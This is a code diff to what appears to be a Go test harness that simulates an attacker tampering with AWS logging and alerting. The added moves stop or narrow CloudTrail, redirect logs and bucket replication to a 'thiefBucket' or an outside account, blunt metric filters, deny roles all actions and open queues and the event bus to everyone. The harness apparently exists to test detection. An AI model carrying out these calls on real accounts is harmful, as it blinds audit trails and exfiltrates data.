@@ -76,12 +76,14 @@ var tampers = []move{
 	on("stop the trail", "CloudTrail.StopLogging", object{"Name": "main"}),
 	on("delete the trail", "CloudTrail.DeleteTrail", object{"Name": "main"}),
 	updates("IsMultiRegionTrail", false),
-	updates("IncludeGlobalServiceEvents", false),
 	updates("EnableLogFileValidation", false),
 	updates("KmsKeyId", ""),
 	updates("SnsTopicName", ""),
-	updates("S3KeyPrefix", "elsewhere"),
 	updates("S3BucketName", thiefBucket),
+	on("record one region only, without global services", "CloudTrail.UpdateTrail", object{
+		"Name": "main", "IsMultiRegionTrail": false, "IncludeGlobalServiceEvents": false,
+	}),
+	on("lead log files elsewhere", "CloudTrail.UpdateTrail", object{"Name": "main", "S3BucketName": thiefBucket, "S3KeyPrefix": "elsewhere"}),
 	{"take the log group from the trail", func(*game) []request {
 		return call("CloudTrail.UpdateTrail", object{"Name": "main", "CloudWatchLogsLogGroupArn": "", "CloudWatchLogsRoleArn": ""})
 	}},
@@ -97,6 +99,15 @@ var tampers = []move{
 	}},
 	{"give the trail another tag", func(g *game) []request {
 		return call("CloudTrail.AddTags", object{"ResourceId": g.st.seeded.TrailARN, "TagsList": []object{{"Key": "owner", "Value": "nobody"}}})
+	}},
+	{"burn budgets with the trail's tags", func(g *game) []request {
+		var calls []request
+		for i := range 40 {
+			calls = append(calls, request{name: "CloudTrail.AddTags", input: object{
+				"ResourceId": g.st.seeded.TrailARN, "TagsList": []object{{"Key": "owner", "Value": fmt.Sprint("nobody-", i)}},
+			}})
+		}
+		return calls
 	}},
 	{"stop and delete the trail", func(*game) []request {
 		return append(call("CloudTrail.StopLogging", object{"Name": "main"}), call("CloudTrail.DeleteTrail", object{"Name": "main"})...)
@@ -136,6 +147,15 @@ var tampers = []move{
 	onBucket("let the world in", "DeletePublicAccessBlock", nil),
 	onBucket("let objects be others'", "PutBucketOwnershipControls", object{"OwnershipControls": object{"Rules": []object{{"ObjectOwnership": "ObjectWriter"}}}}),
 	onBucket("delete the ownership controls", "DeleteBucketOwnershipControls", nil),
+	{"send copies elsewhere", func(g *game) []request {
+		return call("S3.PutBucketReplication", object{"Bucket": g.st.seeded.Bucket, "ReplicationConfiguration": object{
+			"Role": g.st.roleARN("Operator"),
+			"Rules": []object{{
+				"ID": "out", "Status": "Enabled", "Priority": 1, "Filter": object{"Prefix": ""}, "DeleteMarkerReplication": object{"Status": "Disabled"},
+				"Destination": object{"Bucket": "arn:aws:s3:::" + thiefBucket},
+			}},
+		}})
+	}},
 	onBucket("make the requester pay", "PutBucketRequestPayment", object{"RequestPaymentConfiguration": object{"Payer": "Requester"}}),
 	{"open the bucket by its access list", func(g *game) []request {
 		in := object{"Bucket": g.st.seeded.Bucket}
@@ -159,8 +179,18 @@ var tampers = []move{
 	}},
 	on("delete the log group", "CloudWatch Logs.DeleteLogGroup", object{"LogGroupName": groupName}),
 	on("keep logs for a day", "CloudWatch Logs.PutRetentionPolicy", object{"LogGroupName": groupName, "RetentionInDays": 1}),
+	on("send logs elsewhere", "CloudWatch Logs.PutSubscriptionFilter", object{
+		"LogGroupName": groupName, "FilterName": "out", "FilterPattern": "", "DestinationArn": "arn:aws:lambda:eu-west-1:111122223333:function:out",
+	}),
+	on("blunt the metric filter", "CloudWatch Logs.PutMetricFilter", object{
+		"LogGroupName": groupName, "FilterName": "stops", "FilterPattern": "{$.eventName=Nothing}",
+		"MetricTransformations": []object{{"MetricName": "stops", "MetricNamespace": "Trail", "MetricValue": "1"}},
+	}),
 	on("delete the metric filter", "CloudWatch Logs.DeleteMetricFilter", object{"LogGroupName": groupName, "FilterName": "stops"}),
 	on("take the delivery role's policy", "IAM.DeleteRolePolicy", object{"RoleName": roleName, "PolicyName": policyName}),
+	on("deny the delivery role everything", "IAM.PutRolePolicy", object{
+		"RoleName": roleName, "PolicyName": "no", "PolicyDocument": policyOf(object{"Effect": "Deny", "Action": "*", "Resource": "*"}),
+	}),
 	on("trust another with the delivery role", "IAM.UpdateAssumeRolePolicy", object{
 		"RoleName": roleName, "PolicyDocument": policyOf(object{
 			"Effect": "Allow", "Principal": object{"AWS": "arn:aws:iam::111122223333:user/mallory"}, "Action": "sts:AssumeRole",
@@ -175,6 +205,10 @@ var tampers = []move{
 	on("enable our rule, without reads", "EventBridge.EnableRule", object{"Name": ownName}),
 	on("disable our rule", "EventBridge.DisableRule", object{"Name": ownName}),
 	on("take our rule's target", "EventBridge.RemoveTargets", object{"Rule": ownName, "Ids": []string{"queue"}}),
+	on("point our rule elsewhere", "EventBridge.PutTargets", object{"Rule": ownName, "Targets": []object{
+		{"Id": "queue", "Arn": "arn:aws:sqs:eu-west-1:111122223333:elsewhere"},
+	}}),
+	on("open the event bus", "EventBridge.PutPermission", object{"Action": "events:PutEvents", "Principal": "*", "StatementId": "all"}),
 	{"delete our rule", func(*game) []request {
 		return append(call("EventBridge.RemoveTargets", object{"Rule": ownName, "Ids": []string{"queue"}}),
 			call("EventBridge.DeleteRule", object{"Name": ownName})...)
@@ -192,6 +226,17 @@ var tampers = []move{
 	{"delete our dead letter queue", func(g *game) []request {
 		return call("SQS.DeleteQueue", object{"QueueUrl": g.st.seeded.DeadLetterURL})
 	}},
+	{"keep events for a minute", func(g *game) []request {
+		return call("SQS.SetQueueAttributes", object{"QueueUrl": g.st.seeded.QueueURL, "Attributes": object{"MessageRetentionPeriod": "60"}})
+	}},
+	{"open our queue", func(g *game) []request {
+		return call("SQS.SetQueueAttributes", object{"QueueUrl": g.st.seeded.QueueURL, "Attributes": object{
+			"Policy": everybody("sqs:ReceiveMessage", g.st.arnOf("sqs", ownQueue)),
+		}})
+	}},
+	on("deny our role everything", "IAM.PutRolePolicy", object{
+		"RoleName": ownRole, "PolicyName": "no", "PolicyDocument": policyOf(object{"Effect": "Deny", "Action": "*", "Resource": "*"}),
+	}),
 	{"lock events out of our queue", func(g *game) []request {
 		return call("SQS.SetQueueAttributes", object{"QueueUrl": g.st.seeded.QueueURL, "Attributes": object{"Policy": ""}})
 	}},
